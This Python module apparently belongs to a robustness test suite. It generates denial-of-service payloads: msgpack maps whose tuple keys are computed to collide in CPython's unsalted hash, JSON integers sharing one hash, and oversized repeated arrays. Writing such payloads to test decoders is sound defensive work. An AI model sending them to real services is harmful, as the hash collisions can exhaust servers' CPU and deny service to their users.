"""Payloads of the attacks: values that are expensive to decode."""

from __future__ import annotations

import json
from collections.abc import Iterator

import msgpack

WORD = 1 << 64
PRIME_1, PRIME_2, PRIME_5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
HASH_MODULUS = (1 << 61) - 1  # of Python's integers
TARGET = 0x0123456789ABCDEF


def colliding_keys(count: int) -> Iterator[tuple[int, int]]:
    """Yield pairs of integers whose tuples all have the same hash in CPython.

    The hash is the same in every process. A tuple's hash is xxHash of its items' hashes, without a salt, and an integer
    below 2**61 - 1 is its own hash. Each step can be inverted: for any first item, a second one can be computed that
    leads to the same state; one in eight of these is small enough.
    """
    inverse = pow(PRIME_2, -1, WORD)
    first = 0
    while count:
        state = (PRIME_5 + first * PRIME_2) % WORD
        state = ((state << 31) | (state >> 33)) % WORD * PRIME_1 % WORD
        second = (TARGET - state) * inverse % WORD
        if second < HASH_MODULUS:
            count -= 1
            yield first, second
        first += 1


def colliding_map(size: int) -> bytes:
    """Return a msgpack map of about `size` bytes with colliding keys.

    The keys are arrays, the values nil.
    """
    parts: list[bytes] = []
    for key in colliding_keys(size // 13):
        parts.append(msgpack.packb(key) + b"\xc0")
        size -= len(parts[-1])
        if size < 30:
            break
    return b"\xdf" + len(parts).to_bytes(4, "big") + b"".join(parts)


def with_map(document: dict[str, object], name: str, value: bytes) -> bytes:
    """Return a msgpack map of the document's items and one more item.

    The value of that item is already encoded.
    """
    items = b"".join(map(msgpack.packb, [part for item in document.items() for part in item]))
    return bytes((0x80 | (len(document) + 1),)) + items + msgpack.packb(name) + value


def array(*bodies: bytes) -> bytes:
    """Return a msgpack array of encoded values."""
    return b"\xdd" + len(bodies).to_bytes(4, "big") + b"".join(bodies)


def colliding_prices(count: int) -> list[int]:
    """Return integers with the same hash. JSON does not limit their size."""
    return [HASH_MODULUS * (number + 1) for number in range(count)]


def filled(unit: bytes, size: int, *, start: bytes = b"[", separator: bytes = b",", end: bytes = b"]") -> bytes:
    """Return a JSON text of at most `size` bytes that repeats the unit."""
    count = (size - len(start) - len(end) + len(separator)) // (len(unit) + len(separator))
    return start + separator.join([unit] * count) + end


def encoded(message: object, codec: str) -> bytes:
    return msgpack.packb(message) if codec == "msgpack" else json.dumps(message).encode()
